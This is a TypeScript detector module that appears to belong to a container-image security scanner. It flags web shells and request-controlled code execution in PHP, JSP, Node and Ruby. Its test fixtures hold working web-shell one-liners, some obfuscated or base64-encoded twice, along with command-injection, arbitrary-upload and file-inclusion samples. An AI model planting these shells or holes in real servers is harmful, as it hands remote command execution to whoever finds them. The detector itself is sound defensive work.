import type { RunEffect, WriteEffect } from '../trace/effect.ts';
import { textOf } from '../trace/value.ts';
import type { Detector, FindingDraft, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { valueWords } from './wording.ts';

/** Code or commands out of a web request. */
export const webShell: Detector = {
  id: 'web-shell',
  version: 1,
  title: 'Runs what a web request tells it to.',
  attack: ['T1505.003', 'T1059'],
  description: `
A web shell is a page that carries out what its visitor sends: \`eval($_POST['x'])\`, \`system($_GET['c'])\`,
\`$_GET['f']($_GET['x'])\`, \`Runtime.getRuntime().exec(request.getParameter("c"))\`. Whoever knows its address has the
container. It is *malicious* when the whole code or command comes from the request and the page is served, was deleted by a
later layer, or lies disguised among pictures and uploads; *suspicious* where nothing is found to serve it. A request that
decides only a *part* of a fixed command, or which file is loaded or written, is a hole in a program rather than a program made for it:
*suspicious* when served. Arguments that were quoted (\`escapeshellarg\`), turned into numbers or looked up in a list are
nothing.
`,
  fires: [
    { name: 'eval of a field', image: { files: { '/var/www/html/x.php': "<?php @eval($_POST['x']); ?>\n" } } },
    {
      name: 'a command in a parameter',
      image: {
        files: { '/var/www/html/a/s.php': "<pre><?php echo shell_exec($_REQUEST['cmd'] . ' 2>&1'); ?></pre>\n" },
      },
    },
    {
      name: 'put together out of pieces',
      image: {
        files: {
          '/var/www/html/style.php':
            "<?php $a = str_replace('x', '', 'xasxsxert'); $b = '_PO' . 'ST'; $c = $$b; $a($c['k']);\n",
        },
      },
    },
    {
      name: 'encoded twice',
      image: {
        files: {
          '/var/www/html/cache.php': `<?php eval(base64_decode('${btoa(`eval(base64_decode('${btoa("system($_GET['c']);")}'));`)}'));\n`,
        },
      },
    },
    {
      name: 'a page of Java',
      image: {
        files: {
          '/usr/local/tomcat/webapps/ROOT/s.jsp': '<% Runtime.getRuntime().exec(request.getParameter("c")); %>\n',
        },
      },
    },
    {
      name: 'a handler in Node',
      image: {
        cmd: ['node', '/app/server.js'],
        files: {
          '/app/server.js':
            "const app = require('express')();\napp.get('/x', (req, res) => require('child_process').exec(req.query.c, (e, out) => res.send(out)));\napp.listen(80);\n",
        },
      },
    },
    {
      name: 'a handler in Ruby',
      image: {
        cmd: ['ruby', '/app/server.rb'],
        files: { '/app/server.rb': "require 'sinatra'\nget '/x' do\n  `#{params[:c]}`\nend\n" },
      },
    },
    {
      name: 'deleted by a later layer',
      image: { layers: [{ '/opt/x.php': "<?php system($_GET['c']);\n" }, { '/opt/x.php': null }] },
    },
    {
      name: 'where nothing serves it',
      severity: 'suspicious',
      image: { files: { '/opt/tool/console.php': "<?php system($_GET['c']);\n" } },
    },
    {
      name: 'a part of a fixed command',
      severity: 'suspicious',
      image: { files: { '/var/www/html/ping.php': "<?php echo shell_exec('ping -c 4 ' . $_REQUEST['ip']);\n" } },
    },
    {
      name: 'an upload under whatever name it has',
      severity: 'suspicious',
      image: {
        files: { '/var/www/html/u.php': "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);\n" },
      },
    },
    {
      name: 'a file that the request names',
      severity: 'suspicious',
      image: { files: { '/var/www/html/index.php': "<?php include($_GET['page']);\n" } },
    },
  ],
  silent: [
    {
      name: 'a quoted argument of a fixed command',
      image: {
        files: {
          '/var/www/html/thumb.php': "<?php system('convert ' . escapeshellarg($_GET['f']) . ' -resize 64 out.png');\n",
        },
      },
    },
    {
      name: 'a template engine',
      image: {
        files: {
          '/var/www/html/view.php':
            "<?php class View { function show($file, $vars) { extract($vars); ob_start(); eval('?>' . $this->compile($file)); return ob_get_clean(); } }\n",
        },
      },
    },
    {
      name: 'a check and a plain pattern',
      image: {
        files: {
          '/var/www/html/form.php':
            "<?php assert($x instanceof Form); $name = preg_replace('/e/', '', $_POST['name']); echo htmlspecialchars($name);\n",
        },
      },
    },
    {
      name: 'an upload into a folder of its own',
      image: {
        files: {
          '/var/www/html/avatar.php':
            "<?php $to = __DIR__ . '/avatars/' . (int) $_POST['user'] . '.png'; move_uploaded_file($_FILES['f']['tmp_name'], $to);\n",
        },
      },
    },
    {
      name: 'actions out of a list',
      image: {
        files: {
          '/var/www/html/api.php':
            "<?php $actions = ['list' => 'show_list', 'edit' => 'show_form']; $run = $actions[$_GET['do']] ?? 'not_found'; $run($_GET['id']);\n",
        },
      },
    },
    {
      name: 'an update that unpacks what its own server sends',
      image: {
        files: {
          '/var/www/html/update.php':
            "<?php if (isset($_POST['update'])) { file_put_contents('/tmp/u.zip', file_get_contents('https://updates.example/latest.zip')); exec('unzip -o /tmp/u.zip -d ' . escapeshellarg(__DIR__)); }\n",
        },
      },
    },
  ],
  detect(scene) {
    const byPlace = new Map<string, FindingDraft>();
    for (const effect of effectsOf(scene, 'run')) {
      if (effect.from !== 'request') continue;
      for (const finding of judge(scene, effect)) {
        // One finding for a page: its worst.
        const key = `${finding.where.layer?.index ?? ''}:${finding.where.path ?? finding.stage}`;
        const before = byPlace.get(key);
        if (before === undefined || order.indexOf(finding.severity) < order.indexOf(before.severity))
          byPlace.set(key, finding);
      }
    }
    for (const kind of ['write', 'append'] as const)
      for (const effect of effectsOf(scene, kind))
        for (const finding of dropped(scene, effect)) {
          const key = `${finding.where.layer?.index ?? ''}:${finding.where.path ?? finding.stage}`;
          if (!byPlace.has(key)) byPlace.set(key, finding);
        }
    return [...byPlace.values()];
  },
};

const order: readonly FindingDraft['severity'][] = ['malicious', 'suspicious', 'note'];

function judge(scene: Scene, effect: RunEffect): readonly FindingDraft[] {
  const sighting = sightingOf(scene, effect);
  const what = valueWords(effect.what, 80);
  const disguised = disguise(sighting.where.path);
  const deception = disguised === undefined ? {} : { deception: disguised };
  if (effect.interpreter?.endsWith('include') === true) {
    return findingOf(scene, sighting, {
      threat: 'dual-use',
      confidence: 'medium',
      title: `Loads and runs whatever file a web request names (${what})`,
      ...deception,
      effects: [effect.id],
    });
  }
  const kind = isCommand(effect) ? 'command' : 'code';
  if (!isWhole(effect)) {
    return findingOf(scene, sighting, {
      threat: 'dual-use',
      confidence: 'medium',
      title: `Puts parts of a web request into ${kind} it runs (${what})`,
      because: `The request decides a part of the ${kind}, unquoted: whoever sends it can add to it.`,
      ...deception,
      effects: [effect.id],
    });
  }
  return findingOf(scene, sighting, {
    threat: 'hostile',
    title: `Runs whatever ${kind} a web request contains (${what})`,
    because: `The whole ${kind} comes from the request.`,
    ...deception,
    effects: [effect.id],
  });
}

/** A page that puts what it is sent under whatever name it is told: the way by which a real shell arrives. */
function dropped(scene: Scene, effect: WriteEffect): readonly FindingDraft[] {
  const [first] = effect.path;
  if (typeof first !== 'object' || !/^(\$_(GET|POST|REQUEST|COOKIE|FILES)|\$HTTP_)/.test(first.hole)) return [];
  const sighting = sightingOf(scene, effect);
  const disguised = disguise(sighting.where.path);
  return findingOf(scene, sighting, {
    threat: 'dual-use',
    confidence: 'medium',
    title: `Writes whatever file a web request names (${valueWords(effect.path, 80)})`,
    ...(disguised === undefined ? {} : { deception: disguised }),
    effects: [effect.id],
  });
}

/** Names of values that are the request's own, as readers give them to holes. */
const requested = /^(\$_|\$HTTP_|php:\/\/input|getallheaders|params|request|req\b|cgi\b|query|ENV\[)/i;

function isCommand(effect: RunEffect): boolean {
  return /^(ba|da|z|k|a)?sh$|^cmd/.test(effect.interpreter ?? '');
}

/** Whether what runs begins with what the request says, whatever stands before it that does nothing by itself. */
function isWhole(effect: RunEffect): boolean {
  const [first] = effect.what;
  if (first === undefined) return false;
  if (typeof first !== 'string') {
    // An unknown program or folder before what the request says.
    const says = effect.what.some((part) => typeof part !== 'string' && requested.test(part.hole));
    return effect.what.length === 1 || requested.test(first.hole) || !says;
  }
  if (textOf(effect.what) !== undefined) return false;
  const before = isCommand(effect) ? lastCommand(first) : first.replace(/\/\*[^*]{0,500}\*\//g, '').replace(/^\?>/, '');
  return isCommand(effect) ? nothingYet.test(before) : /^[\s;@'"({]*(return|echo|print)?[\s('"]*$/.test(before);
}

/** Words that only pass on the command after them. */
const nothingYet =
  /^[\s'"(]{0,20}(?:(?:sudo|nohup|exec|env|time|(?:\/usr)?(?:\/bin\/)?(?:ba|da)?sh|busybox|-i|-c|-lc|-n|timeout|cmd(?:\.exe)?|\/c|\d{1,6}s?)[\s'"]{1,10}){0,8}$/;

function lastCommand(text: string): string {
  const last = text.slice(-2_000);
  const at = Math.max(last.lastIndexOf(';'), last.lastIndexOf('&'), last.lastIndexOf('|'), last.lastIndexOf('\n'));
  return last.slice(at + 1);
}

/** A program where only pictures, styles and uploads belong, or under a name that says it is one. */
function disguise(path: string | undefined): string | undefined {
  if (path === undefined) return undefined;
  const parts = path.toLowerCase().split('/');
  const name = parts.pop() ?? '';
  if (parts.some((part) => places.has(part)))
    return 'It lies among pictures, styles or uploads, where no program belongs.';
  if (/\.(jpe?g|png|gif|ico|css|svg|txt|pdf|zip)(\.|$)/.test(name)) return 'Its name says that it is something else.';
  return name.startsWith('.') ? 'Its name keeps it out of sight.' : undefined;
}

const places = new Set(
  'uploads upload images image img css fonts font media avatars thumbs thumbnails pictures photos attachments files .well-known'.split(
    ' ',
  ),
);
